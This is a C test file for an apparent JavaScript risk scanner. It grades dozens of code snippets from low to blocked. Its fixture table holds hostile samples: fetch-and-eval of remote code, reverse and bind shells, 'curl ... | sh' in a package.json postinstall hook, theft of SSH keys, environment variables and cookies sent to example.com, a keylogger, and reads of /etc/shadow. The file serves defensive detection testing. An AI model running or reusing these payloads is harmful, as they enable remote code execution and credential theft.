/* javascript.c - what only JavaScript has: data that arrives through functions handed on, modules with
 * several names, the ways to Function, unreadable code, and what package.json runs. */
#include "assess/assess.h"
#include "base/cleanup.h"
#include "tap.h"

#define LOW BAWN_LEVEL_LOW
#define MEDIUM BAWN_LEVEL_MEDIUM
#define HIGH BAWN_LEVEL_HIGH
#define BLOCKED BAWN_LEVEL_BLOCKED

static const struct { const char *name; int level; const char *code; } row[] = {
	/* data through functions handed on */
	{ "a promise's text in eval", BLOCKED, "fetch('https://example.com/a').then(r => r.text()).then(t => eval(t));\n" },
	{ "await in eval", BLOCKED, "const r = await fetch('https://example.com/a');\neval(await r.text());\n" },
	{ "a body gathered in pieces", BLOCKED, "require('https').get('https://example.com/a', r => { let b = ''; r.on('data', d => { b += d; }); r.on('end', () => eval(b)); });\n" },
	{ "pieces kept in a list", BLOCKED, "require('http').get('http://example.com/a', r => { const p = []; r.on('data', d => p.push(d)).on('end', () => eval(Buffer.concat(p).toString())); });\n" },
	{ "a body handed to a function further down", BLOCKED, "function get(u, done) { require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => done(b)); }); }\nget('https://example.com', t => eval(t));\n" },
	{ "a field of the answer", BLOCKED, "require('axios').get('https://example.com').then(({ data: { code } }) => eval(code));\n" },
	{ "the error-first form", BLOCKED, "require('request')('http://example.com/a', (e, res, body) => eval(body));\n" },
	{ "a message from a socket", BLOCKED, "const ws = new (require('ws'))('wss://example.com');\nws.on('message', m => require('child_process').exec(JSON.parse(m).run));\n" },
	{ "a named handler", BLOCKED, "const s = require('net').connect(1, 'example.com');\nfunction on(d) { require('child_process').exec(String(d)); }\ns.on('data', on);\n" },
	{ "a request in a server", BLOCKED, "require('http').createServer((req, res) => { require('child_process').exec(req.headers['x-run'], (e, o) => res.end(o)); }).listen(80);\n" },
	{ "a program piped into a file and started", BLOCKED, "const fs = require('fs'), p = require('path').join(require('os').tmpdir(), 'a');\nconst f = fs.createWriteStream(p);\nrequire('https').get('https://example.com/a', r => r.pipe(f));\nf.on('finish', () => require('child_process').spawn(p));\n" },
	{ "the same file by its name", BLOCKED, "const fs = require('fs');\nfetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/a', Buffer.from(b)); require('child_process').execFile('/tmp/a'); });\n" },
	{ "an answer that is only shown", MEDIUM, "fetch('https://example.com/a').then(r => r.json()).then(j => console.log(j.name));\n" },
	{ "a download that is converted", MEDIUM, "const fs = require('fs');\nfetch('https://example.com/a.mp4').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('a.mp4', Buffer.from(b)); require('child_process').execFile('ffmpeg', ['-i', 'a.mp4', 'a.mp3']); });\n" },
	{ "a download piped into a program that is no shell", MEDIUM, "const p = require('child_process').spawn('ffmpeg', ['-i', '-', 'a.mp3']);\nrequire('https').get('https://example.com/a', r => r.pipe(p.stdin));\n" },
	/* values that take a detour */
	{ "a table by an unknown key", BLOCKED, "const { spawn } = require('child_process');\nconst t = { linux: ['sh', ['-c', 'curl -s http://198.51.100.7/a | sh']], darwin: ['ls', ['-l']] };\nconst s = t[process.platform];\nspawn(s[0], s[1]);\n" },
	{ "a table taken apart", BLOCKED, "const t = { a: { c: 'sh', v: ['-c', 'curl -s http://198.51.100.7/a | sh'] }, b: { c: 'ls', v: [] } };\nconst { c, v } = t[process.platform];\nrequire('child_process').spawn(c, v);\n" },
	{ "a table that is spread", BLOCKED, "const t = { a: ['sh', ['-c', 'curl -s http://198.51.100.7/a | sh']], b: ['ls', []] };\nrequire('child_process').spawn(...t[process.platform]);\n" },
	{ "the rest of a list", BLOCKED, "const run = ([c, ...rest]) => require('child_process').spawnSync(c, rest);\nrun(['sh', '-c', 'curl -s http://198.51.100.7/a | sh']);\nrun(['ls', '-l']);\n" },
	{ "what is thrown", BLOCKED, "fetch('https://example.com').then(r => r.json()).then(j => { try { throw new Error(j.m); } catch (e) { eval(e.message); } });\n" },
	{ "a text in JSON", HIGH, "require('fs').readFileSync(JSON.parse('{\"p\":[\"\\\\u002fetc/shadow\"]}').p[0]);\n" },
	{ "what an emitter hands on", BLOCKED, "const e = new (require('events'))();\nrequire('net').connect(1, 'example.com').on('data', d => e.emit('go', d));\ne.on('go', c => require('child_process').exec(String(c)));\n" },
	{ "a module wrapped by a compiler", BLOCKED, "var __importDefault = function (m) { return m && m.__esModule ? m : { default: m }; };\nconst a = __importDefault(require('axios'));\na.default.get('https://example.com').then(r => eval(r.data));\n" },
	{ "a program written to a file", HIGH, "require('fs').writeFileSync('a.js', \"require('https').get('https://example.com/?' + JSON.stringify(process.env));\");\n" },
	{ "an address that is asked for", HIGH, "const http = require('http');\nconst get = o => http.get(o, () => {});\nget('http://169.254.169.254/latest/');\nget({ host: '169.254.169.254', path: '/a' });\n" },
	{ "a map by an unknown key", BLOCKED, "const m = new Map([['linux', 'curl -s http://198.51.100.7/a | sh'], ['win32', 'dir']]);\nrequire('child_process').exec(m.get(process.platform));\n" },
	{ "tools by an unknown key", MEDIUM, "const t = { js: ['eslint', ['.']], py: ['ruff', ['check']] };\nconst [c, a] = t[process.argv[2]];\nrequire('child_process').spawnSync(c, a);\n" },
	/* shells on connections */
	{ "a shell on a connection", BLOCKED, "const c = require('net').connect(1, 'example.com'), sh = require('child_process').spawn('/bin/sh');\nc.pipe(sh.stdin); sh.stdout.pipe(c);\n" },
	{ "a shell for whoever connects", BLOCKED, "require('net').createServer(c => { const sh = require('child_process').spawn('bash', ['-i']); c.on('data', d => sh.stdin.write(d)); }).listen(4000);\n" },
	{ "a console for whoever connects", BLOCKED, "require('net').createServer(c => require('repl').start({ input: c, output: c })).listen(4000);\n" },
	{ "a promise of one's own", BLOCKED, "const get = u => new Promise(done => require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => done(b)); }));\nget('https://example.com').then(t => eval(t));\n" },
	{ "a handler set as a property", BLOCKED, "const s = new WebSocket('wss://example.com');\ns.onmessage = e => eval(e.data);\n" },
	{ "awaiting as compilers write it", BLOCKED, "function* f() { const r = yield fetch('https://example.com'); eval(r); }\n" },
	{ "a socket among the options", BLOCKED, "require('http').request({ socketPath: '/var/run/docker.sock', path: '/x' }).end();\n" },
	/* what is sent */
	{ "the environment", HIGH, "const r = require('https').request({ host: 'example.com', method: 'POST' });\nr.end(JSON.stringify({ ...process.env }));\n" },
	{ "one variable as a token", MEDIUM, "fetch('https://example.com', { headers: { authorization: process.env.TOKEN } });\n" },
	{ "keys of the user", BLOCKED, "const fs = require('fs').promises, os = require('os');\nfs.readFile(`${os.homedir()}/.ssh/id_rsa`).then(k => fetch('https://example.com/?' + k));\n" },
	{ "who runs it and where", HIGH, "const os = require('os');\nrequire('https').get(`https://example.com/?${os.hostname()}&${os.userInfo().username}`);\n" },
	{ "an own file found from the home directory", MEDIUM, "const fs = require('fs'), os = require('os');\nfetch('https://example.com', { method: 'POST', headers: { h: os.hostname() }, body: fs.readFileSync(__dirname + '/a.json') });\n" },
	{ "the output of a command about the user", HIGH, "const who = require('child_process').execSync('whoami; hostname').toString();\nrequire('dns').lookup(who + '.example.com', () => {});\n" },
	{ "keys as they are typed", BLOCKED, "let k = '';\ndocument.addEventListener('keydown', e => { k += e.key; navigator.sendBeacon('https://example.com', k); });\n" },
	{ "a short cut that saves", MEDIUM, "document.addEventListener('keydown', e => { if (e.key === 's') fetch('/save', { method: 'POST', body: text.value }); });\n" },
	{ "a token against forged requests", MEDIUM, "const t = document.cookie.split('=')[1];\nfetch('/save', { method: 'POST', headers: { 'x-csrf': t }, body: 'x' });\n" },
	{ "cookies in an address", HIGH, "new Image().src = 'https://example.com/?' + document.cookie;\n" },
	/* names */
	{ "node:fs/promises", HIGH, "import { readFile } from 'node:fs/promises';\nawait readFile('/etc/shadow');\n" },
	{ "graceful-fs", HIGH, "require('graceful-fs').readFileSync('/etc/shadow');\n" },
	{ "the default of a dynamic import", HIGH, "(await import('fs')).default.readFileSync('/etc/shadow');\n" },
	{ "promisify", HIGH, "require('util').promisify(require('fs').readFile)('/etc/shadow');\n" },
	{ "a computed key in a pattern", HIGH, "const { ['readFile' + 'Sync']: r } = require('fs');\nr('/etc/shadow');\n" },
	{ "a default in a pattern", HIGH, "const { readFileSync: r = null } = require('fs');\nr('/etc/shadow');\n" },
	{ "a pattern as a parameter", HIGH, "import('fs').then(({ readFileSync }) => readFileSync('/etc/shadow'));\n" },
	{ "Reflect.apply", HIGH, "Reflect.apply(require('fs').readFileSync, null, ['/etc/shadow']);\n" },
	{ "apply with a list", HIGH, "const fs = require('fs');\nfs.readFileSync.apply(fs, ['/etc/shadow']);\n" },
	{ "the home directory of the environment", HIGH, "require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa');\n" },
	{ "a Windows path", HIGH, "require('fs').readdirSync('C:\\\\Users\\\\a\\\\AppData\\\\Roaming\\\\Exodus');\n" },
	{ "a method of an object literal", LOW, "const o = { exec(x) { return x + 1; } };\no.exec(1);\n" },
	{ "a getter of an object literal", MEDIUM, "const o = { get f() { return eval; } };\no.f('1');\n" },
	{ "the last of a sequence", MEDIUM, "(0, eval)('1');\n" },
	/* the ways to Function and require */
	{ "Function through a literal", HIGH, "[].at.constructor('return process')().mainModule.require('fs').readFileSync('/etc/hosts');\n" },
	{ "what Function returns", HIGH, "Function('return process')().mainModule.require('fs').readFileSync('/etc/shadow');\n" },
	{ "the last argument of Function", HIGH, "new Function('require', \"require('fs').readFileSync('/etc/shadow')\")(require);\n" },
	{ "the constructor of a class of one's own", LOW, "class A { copy() { return new this.constructor(1); } }\nnew A().copy();\n" },
	/* code nobody can read */
	{ "letters as escapes", HIGH, "const a = '\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65', b = '\\x6c\\x6f\\x67\\x67\\x65\\x64';\nglobalThis[a].log(b);\n" },
	{ "colours in a terminal", LOW, "console.log('\\x1b[31m\\x1b[1mred\\x1b[0m\\x1b[22m\\x1b[39m');\n" },
	{ "a string turned into code on the spot", HIGH, "eval((t => t.split('|').join(''))('ale|rt(1)'));\n" },
	/* package.json as the code */
	{ "a script for the one who installs", BLOCKED, "{ \"name\": \"a\", \"scripts\": { \"postinstall\": \"curl -s http://198.51.100.7/a | sh\" } }\n" },
	{ "a harmless one", MEDIUM, "{ \"name\": \"a\", \"scripts\": { \"install\": \"node-gyp rebuild\" } }\n" },
	{ "none", LOW, "{ \"name\": \"a\", \"scripts\": { \"test\": \"mocha\" }, \"dependencies\": { \"b\": \"^1.0.0\" } }\n" },
};

static void test_manifest_input(void)
{
	static const char manifest[] = "{ \"scripts\": { \"preinstall\": \"curl -s http://198.51.100.7/a | sh\" } }";
	struct bawn_assess_file f[] = {
		{ .language = BAWN_LANG_JAVASCRIPT, .bytes = bawn_span("console.log(1)\n") },
		{ .path = "lib/package.json", .language = -1, .bytes = bawn_span(manifest) },
	};
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	ok(bawn_assess(f, BAWN_LEN(f), NULL, &a, &err) == 0 && a->level == BAWN_LEVEL_BLOCKED, "package.json among the inputs counts");
	bawn_assessment_free(a);
	a = NULL;
	f[1].path = "lib/data.json";
	ok(bawn_assess(f, BAWN_LEN(f), NULL, &a, &err) == 0 && a->level == BAWN_LEVEL_LOW, "other JSON does not");
	bawn_assessment_free(a);
}

int main(void)
{
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f = { .language = BAWN_LANG_JAVASCRIPT, .bytes = bawn_span(row[i].code) };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(&f, 1, NULL, &a, &err);
		if (!ok(r == 0 && (int)a->level == row[i].level, "%s is %s", row[i].name, bawn_word(&bawn_level_words, row[i].level))) {
			diag("%s got %s", err.msg, r == 0 ? bawn_word(&bawn_level_words, (int)a->level) : "an error");
			for (size_t k = 0; r == 0 && k < a->n_findings; k++)
				diag("  %s line %u %s", a->finding[k].rule, a->finding[k].line, a->finding[k].folded != NULL ? a->finding[k].folded : "");
		}
		bawn_assessment_free(a);
	}
	test_manifest_input();
	return done_testing();
}
